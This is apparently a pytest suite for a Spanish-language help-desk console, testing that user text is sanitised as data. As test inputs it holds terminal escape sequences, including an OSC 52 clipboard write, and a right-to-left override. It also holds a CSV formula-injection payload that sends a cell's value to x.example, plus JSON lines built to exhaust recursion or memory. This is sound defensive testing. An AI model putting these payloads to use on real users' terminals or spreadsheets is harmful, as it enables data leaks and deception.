"""Text is data, never control (issue 11: findings 1, 8, 11 and the CSV export).

The attacks run the real program in other processes on real files, on both engines: hostile names
and titles, bad numbers, a pathological web-form file. Each refused value is one sentence on stderr,
a non-zero exit, no traceback and nothing written; what the commands print carries no escape.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import subprocess
import sys
import tomllib
import unicodedata
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from office_support import env, run
from sqlalchemy import Engine, create_engine, func, make_url, select, text
from store_backends import (  # noqa: F401 - fixtures on both engines
    BACKENDS,
    copy_of_template,
    create_database,
    postgres_admin_url,
    postgres_url,
    register_case,
    seed_client,
    store,
    store_url,
)

from jq_console.bootstrap import DEFAULT_POLICY, Runtime, load_runtime
from jq_console.domain import lifecycle
from jq_console.domain.nit import check_digit
from jq_console.domain.policy import PolicyError, parse_policy
from jq_console.domain.text import TextRefused, entered, formula_safe, plain
from jq_console.store import directory, moves
from jq_console.store.cases import get_case, history
from jq_console.store.engine import make_engine, read
from jq_console.store.tables import metadata

LIMITS = load_runtime(str(DEFAULT_POLICY)).policy.limits
CLOCK = "2026-12-10T10:00"
OSC52 = "\x1b]52;c;SGFja2Vk\x07"  # writes 'Hacked' to the clipboard of a terminal that allows it
CLEAR = "\x1b[2J"
HOSTILE_TITLE = f"Factura {OSC52}caída{CLEAR} total"


def nit(number: str) -> str:
    return f"{number}-{check_digit(number)}"


NIT = nit("901234567")


def is_control(character: str) -> bool:
    return unicodedata.category(character) in ("Cc", "Cs") or character in "\u202a\u202b\u202c\u202d\u202e"


# ---- the sanitising function ------------------------------------------------------------------


def test_escape_sequences_go_whole_and_the_text_stays() -> None:
    assert plain(HOSTILE_TITLE) == "Factura caída total"
    assert plain("a\x9b2Jb\x9d52;c;x\x9cc") == "abc"  # the C1 forms of CSI, OSC and ST
    assert plain("usr\u202eexe.pdf") == "usrexe.pdf"  # no right-to-left override
    assert plain("línea 1\r\nlínea 2\tfin", multiline=True) == "línea 1\nlínea 2\tfin"
    assert plain("línea 1\nlínea 2\tfin") == "línea 1 línea 2 fin"
    assert plain("Ferretería [El Tornillo] Ltda. ☕ e\u0301") == "Ferretería [El Tornillo] Ltda. ☕ e\u0301"


def test_entered_text_is_refused_blank_or_too_long() -> None:
    assert entered("  Ana\x1b[31m Pérez ", "name", 20) == "Ana Pérez"
    with pytest.raises(TextRefused) as blank:
        entered(f"{CLEAR} \x07 ", "name", 20)
    assert blank.value.code == "text.blank"
    with pytest.raises(TextRefused) as long:
        entered("x" * 21, "title", 20)
    assert (long.value.code, long.value.params["limit"]) == ("text.too_long", 20)
    assert entered("", "note", 20, required=False) == ""


@pytest.mark.parametrize("typed", ["\u200b\u200b", "\u2060\u00ad\u200c", "\u0301\u0301\u0303", " \u200b \u3000"])
def test_a_text_that_shows_nothing_is_blank(typed: str) -> None:
    """Zero-width characters, a soft hyphen or accents with no letter under them made a title that
    looked blank in every list (intake took three such cases): refused as blank, like spaces."""
    with pytest.raises(TextRefused) as blank:
        entered(typed, "title", 200)
    assert blank.value.code == "text.blank"


def test_a_text_with_something_to_show_keeps_its_joiners_and_accents() -> None:
    for typed in ("👩\u200d💻", "e\u0301", "Ñandú", "\u200bA"):
        assert entered(typed, "title", 200) == typed


@pytest.mark.parametrize(("cell", "safe"), [("=1+1", "'=1+1"), ("+57", "'+57"), ("-2", "'-2"), ("@SUM", "'@SUM")])
def test_formula_cells_are_neutralised(cell: str, safe: str) -> None:
    assert formula_safe(cell) == safe
    assert formula_safe("Ferretería") == "Ferretería"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200), st.booleans())
def test_plain_never_leaves_a_control_character(value: str, multiline: bool) -> None:
    cleaned = plain(value, multiline=multiline)
    allowed = "\n\t" if multiline else ""
    assert not any(is_control(ch) and ch not in allowed for ch in cleaned)
    assert plain(cleaned, multiline=multiline) == cleaned  # cleaning twice changes nothing


# ---- the real program on both engines -----------------------------------------------------------


def jq(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "jq_console", *args],
        capture_output=True,
        text=True,
        env=env("jefe"),
        input=stdin,
        timeout=120,
    )


def _office(url: str) -> str:
    """A demo database (where `jefe` is the administrator) with one more client."""
    made = run("--db", url, "demo", "--cases", "6", login="jefe")
    assert made.returncode == 0, made.stderr
    added = run(
        "--db", url, "client", "add", "--nit", NIT, "--name", "Cliente Web", "--service", "subscription",
        "--level", "3", login="jefe",
    )  # fmt: skip
    assert added.returncode == 0, added.stderr
    return url


@pytest.fixture
def office(store_url: str) -> str:
    """A fresh office on each engine, for the tests that write: a copy of one made once per process."""
    copy_of_template(store_url, "text-is-data office", _office)
    return store_url


@pytest.fixture(scope="session", params=BACKENDS)
def shared_office(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """One office per engine for the tests that must write nothing (each checks that it did not)."""
    if request.param == "sqlite":
        url = str(tmp_path_factory.mktemp("office") / "office.sqlite")
        yield _office(url)
        return
    admin = create_engine(postgres_admin_url(), isolation_level="AUTOCOMMIT")
    name = f"jq_{uuid.uuid4().hex[:12]}"
    with admin.connect() as connection:
        create_database(connection, name)
    try:
        yield _office(make_url(postgres_admin_url()).set(database=name).render_as_string(hide_password=False))
    finally:
        with admin.connect() as connection:
            connection.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()


def counts(url: str) -> dict[str, int]:
    engine = make_engine(url)
    try:
        return read(
            engine,
            lambda c: {
                name: int(c.execute(select(func.count()).select_from(table)).scalar() or 0)
                for name, table in metadata.tables.items()
            },
        )
    finally:
        engine.dispose()


BIG = "9" * 25
IN_OTHER_PROCESS = ("rate", "log", "billing")  # the tracebacks, attacked as a shell would


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["rate", "set", "2027", "99999999999999999999"], "la tarifa por hora debe ser un número entero entre 1 y"),
        (["rate", "set", "99999999999999999999", "180000"], "el año debe ser un número entero entre 1900 y 9998"),
        (["client", "add", "--nit", nit("900373115"), "--name", "X", "--service", "contractual", "--uc", BIG], "--uc"),
        (["client", "edit", NIT, "--uc", BIG], "--uc debe ser"),
        (["log", "JQ-2026-00001", "1h", "--corrects", BIG], "--corrects debe ser"),
        (["billing", "--month", "0000-01"], "el año debe estar entre 1900 y 9998"),
        (["billing", "--month", "２０２６-01"], "Mes inválido"),
        (["demo", "--cases", BIG], "--cases debe ser"),
        (["agent", "add", "evil", "--name", "   "], "el nombre no puede quedar en blanco"),
        (["agent", "add", "evil", "--name", f"{CLEAR}\x07"], "el nombre no puede quedar en blanco"),
        (["agent", "add", f"a{CLEAR}b", "--name", "Eve"], "el usuario no puede contener caracteres de control"),
        (["agent", "add", "evil", "--name", "x" * 500], "el nombre pasa de 120 caracteres"),
        (["client", "edit", NIT, "--name", " \t "], "el nombre no puede quedar en blanco"),
        (["partner", "add", "--name", OSC52], "el nombre no puede quedar en blanco"),
        (["corrective", "JQ-2026-00001", "n" * 5000], "la nota pasa de 4000 caracteres"),
    ],
)
def test_every_bad_value_is_one_sentence_and_writes_nothing(shared_office: str, args: list[str], said: str) -> None:
    office = shared_office
    before = counts(office)
    attack = jq if args[0] in IN_OTHER_PROCESS else lambda *words: run(*words, login="jefe")
    done = attack(*args, "--db", office, "--now", CLOCK)
    assert done.returncode == 2, done.stderr  # bad input (1 is a move the policy refuses)
    assert "Traceback" not in done.stderr
    assert done.stderr.count("\n") == 1 and done.stderr.startswith("jq-console: "), done.stderr
    assert said in done.stderr
    assert counts(office) == before


def test_names_typed_with_controls_are_stored_plain(office: str) -> None:
    added = jq("--db", office, "agent", "add", "eve", "--name", f"Eva {OSC52}Ruiz{CLEAR}")
    assert added.returncode == 0, added.stderr
    listed = run("--db", office, "agent", "list", "--json", login="jefe")
    assert {"login": "eve", "name": "Eva Ruiz"}.items() <= next(
        row for row in json.loads(listed.stdout) if row["login"] == "eve"
    ).items()


def plant(url: str, title: str, client_name: str) -> None:
    """Rows as a raw writer (or an older version) left them: hostile bytes already in the database."""
    engine = make_engine(url)
    try:
        with engine.begin() as connection:
            connection.execute(text('UPDATE "case" SET title = :title'), {"title": title})
            connection.execute(text("UPDATE client SET name = :name"), {"name": client_name})
    finally:
        engine.dispose()


def test_stored_escapes_never_reach_the_terminal_from_commands(office: str) -> None:
    plant(office, HOSTILE_TITLE, f"Comercial [/b]\u2028Andina {OSC52}")
    commands = (
        ["cases", "--json"],
        ["client", "list"],
        ["agent", "list"],
        ["billing", "--month", "2026-11"],
        ["case", "find", "Factura"],
        ["availability"],
    )
    for args in commands:
        done = run(*args, "--db", office, "--now", CLOCK, login="jefe")
        assert done.returncode == 0, done.stderr
        assert "\x1b" not in done.stdout + done.stderr and "\x07" not in done.stdout
    as_json = run("cases", "--json", "--db", office, "--now", CLOCK, login="jefe").stdout
    assert {row["client"].strip() for row in json.loads(as_json)} == {"Comercial [/b] Andina"}
    clients = run("client", "list", "--json", "--db", office, login="jefe").stdout  # the names as stored
    assert {plain(row["name"]).strip() for row in json.loads(clients)} == {"Comercial [/b] Andina"}  # valid JSON
    listed = jq("cases", "--db", office, "--now", CLOCK).stdout  # in its own process, as a shell runs it
    assert "\x1b" not in listed and "\x07" not in listed
    assert "Factura caída total" in listed and "Comercial [/b] Andina" in listed


def test_billing_csv_cells_cannot_run_as_formulas(office: str) -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1,"ver")'
    edited = run("--db", office, "client", "edit", NIT, "--name", formula, "--service", "contractual", login="jefe")
    assert edited.returncode == 0, edited.stderr
    usr = ["contact", "add", "--nit", NIT, "--name", "Ana", "--role", "usr", "--email", "ana@cliente.com.co"]
    assert run("--db", office, *usr, login="jefe").returncode == 0  # a verified reporter: time may be logged
    submission = {
        "submission_id": "CSV-1",
        "nit": NIT,
        "reporter_email": "ana@cliente.com.co",
        "severity": "S3",
        "category": "fault",
        "title": "Caída",
        "description": "No abre",
        "submitted_at": "2026-12-07T09:00:00-05:00",
    }
    imported = jq("--db", office, "intake", "-", "--now", "2026-12-07T10:00", stdin=json.dumps(submission) + "\n")
    assert imported.returncode == 0, imported.stderr
    code = imported.stdout.split()[0]
    logged = run("--db", office, "log", code, "1h", "--now", "2026-12-07T11:30", login="jefe")
    assert logged.returncode == 0, logged.stderr
    exported = jq("--db", office, "billing", "--month", "2026-12", "--csv", "-", "--now", CLOCK)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    mine = [row for row in rows if row[0] == code]
    assert mine and mine[0][1] == "'" + formula and mine[0][2] == NIT
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


# ---- intake never falls over ------------------------------------------------------------------------


def submission_line(**changes: object) -> str:
    item: dict[str, object] = {
        "submission_id": "OK-1",
        "nit": NIT,
        "reporter_email": "ana@cliente.com.co",
        "severity": "S2",
        "category": "fault",
        "title": HOSTILE_TITLE,
        "description": f"Primera línea\r\nSegunda {CLEAR}línea\u202e",
        "submitted_at": "2026-12-07T15:00:00-05:00",
    }
    item.update(changes)
    return json.dumps(item, ensure_ascii=False)


def test_pathological_lines_are_skipped_and_the_valid_ones_imported(office: str, tmp_path: Path) -> None:
    form = tmp_path / "form.jsonl"
    with form.open("wb") as out:
        out.write(b"[" * 100_000 + b"\n")  # a RecursionError for json.loads
        out.write(b'{"title": "' + b"x" * (LIMITS.intake_line_bytes + 10) + b'"}\n')  # over the line limit
        out.write(b'{"title": "\xff\xfe"}\n')  # not UTF-8
        out.write(submission_line(submission_id="LONG", title="t" * (LIMITS.title + 1)).encode() + b"\n")
        out.write(submission_line(submission_id="BLANK", title=f"{OSC52} {CLEAR}").encode() + b"\n")
        out.write(b"\n" + submission_line().encode() + b"\n")
    done = jq("--db", office, "intake", str(form), "--now", CLOCK)
    assert "Traceback" not in done.stderr
    assert done.returncode == 1
    assert done.stderr.splitlines() == [
        f"jq-console: línea 1: el JSON anida más de {LIMITS.intake_depth} niveles de llaves o corchetes; envío omitido",
        f"jq-console: línea 2: la línea pasa de {LIMITS.intake_line_bytes} bytes: se omitió sin leerla; envío omitido",
        "jq-console: línea 3: la línea no es texto UTF-8; envío omitido",
        f"jq-console: línea 4: el título pasa de {LIMITS.title} caracteres: acórtelo; envío omitido",
        "jq-console: línea 5: el título no puede quedar en blanco ni tener solo caracteres de control; envío omitido",
    ]
    assert "1 casos creados, 0 repetidos, 5 rechazados" in done.stdout
    engine = make_engine(office)
    try:
        with engine.connect() as connection:
            row = connection.execute(text("SELECT title, description FROM \"case\" WHERE submission_id = 'OK-1'")).one()
    finally:
        engine.dispose()
    assert tuple(row) == ("Factura caída total", "Primera línea\nSegunda línea")


def test_a_200_mb_line_is_skipped_with_flat_memory(tmp_path: Path) -> None:
    db = tmp_path / "office.sqlite"
    assert jq("--db", str(db), "demo", "--cases", "0").returncode == 0
    assert jq("--db", str(db), "client", "add", "--nit", NIT, "--name", "C", "--service", "contractual").returncode == 0
    form = tmp_path / "huge.jsonl"
    chunk = b"x" * (1024 * 1024)
    with form.open("wb") as out:
        out.write(b'{"title": "')
        for _ in range(200):
            out.write(chunk)
        out.write(b'"}\n' + submission_line(severity="S3").encode() + b"\n")
    peak = tmp_path / "peak.txt"
    # The child reads its own high-water mark at exit: a forked child's rusage would count the pages
    # of this (large, long-running) test process it was forked from.
    child = (
        "import runpy, sys\n"
        f"sys.argv = ['jq-console', '--db', {str(db)!r}, 'intake', {str(form)!r}, '--now', {CLOCK!r}]\n"
        "try:\n"
        "    runpy.run_module('jq_console', run_name='__main__')\n"
        "finally:\n"
        "    status = open('/proc/self/status').read().split('VmHWM:')[1].split()[0]\n"
        f"    open({str(peak)!r}, 'w').write(status)\n"
    )
    done = subprocess.run([sys.executable, "-c", child], capture_output=True, text=True, env=env("jefe"), timeout=300)
    assert "línea 1: la línea pasa de" in done.stderr and "1 casos creados" in done.stdout, done.stderr
    assert done.returncode == 1
    peak_kib = int(peak.read_text())
    assert peak_kib < 160 * 1024, f"{peak_kib} KiB for a 200 MiB line"  # main took 854 MB


# ---- the store as the last place before the database: what a screen stores ----------------------------


def test_registration_and_move_texts_are_plain_and_capped(store: Engine, runtime: Runtime) -> None:
    client_id, contact_id = seed_client(store)
    code = register_case(store, runtime, client_id, contact_id, title=f"Caída {OSC52}del{CLEAR} módulo")
    case = get_case(store, code)
    assert case is not None and case.title == "Caída del módulo"
    with pytest.raises(TextRefused):  # what the registration screen would send with a blank title
        register_case(store, runtime, client_id, contact_id, title=f"  {CLEAR} ")
    directory.add_agent(store, "ana", f"Ana {CLEAR}Ruiz", "agent")
    assert [a.name for a in directory.agents(store) if a.login == "ana"] == ["Ana Ruiz"]
    too_long = "n" * (LIMITS.note + 1)
    with pytest.raises(TextRefused):
        moves.apply(store, runtime, code, "tester", lambda c: lifecycle.assign(c, "ana", runtime.now(), too_long))
    note = f"Turno {OSC52}de noche{CLEAR}\u202e"
    moves.apply(store, runtime, code, "tester", lambda c: lifecycle.assign(c, "ana", runtime.now(), note))
    assert history(store, case.id)[-1].note == "Turno de noche"


def test_the_limits_live_in_the_policy_file() -> None:
    data = tomllib.loads(DEFAULT_POLICY.read_text(encoding="utf-8"))
    assert parse_policy(data).limits == LIMITS
    for key, bad in (("title", 5), ("intake_line_bytes", 10**12), ("intake_depth", 100_000)):
        changed = copy.deepcopy(data)
        changed["limits"][key] = bad
        with pytest.raises(PolicyError) as refused:
            parse_policy(changed)
        assert refused.value.key == f"limits.{key}" and refused.value.code == "policy.limit_range"
    del data["limits"]
    with pytest.raises(PolicyError) as missing:
        parse_policy(data)
    assert missing.value.key == "limits"
